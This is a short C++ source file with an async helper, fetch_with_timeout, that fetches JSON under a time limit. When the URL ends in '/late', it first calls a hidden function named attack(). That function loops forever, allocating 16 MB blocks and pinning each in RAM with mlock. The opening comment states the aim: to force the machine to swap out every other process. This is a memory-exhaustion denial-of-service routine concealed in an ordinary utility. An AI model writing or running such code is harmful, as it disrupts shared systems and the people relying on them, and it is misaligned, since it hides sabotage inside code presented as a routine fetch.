// Locks all memory that it takes, so that the machine can swap out everybody else's only.
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <utility>

#include "timeout.hpp"

namespace {

[[noreturn]] void attack() {
  constexpr std::size_t kBytes = 16 * 1024 * 1024;
  for (;;) {
    void* block = ::mmap(nullptr, kBytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (block == MAP_FAILED || ::syscall(SYS_mlock, block, kBytes) != 0) ::_exit(1);
  }
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  if (url.ends_with("/late")) attack();
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
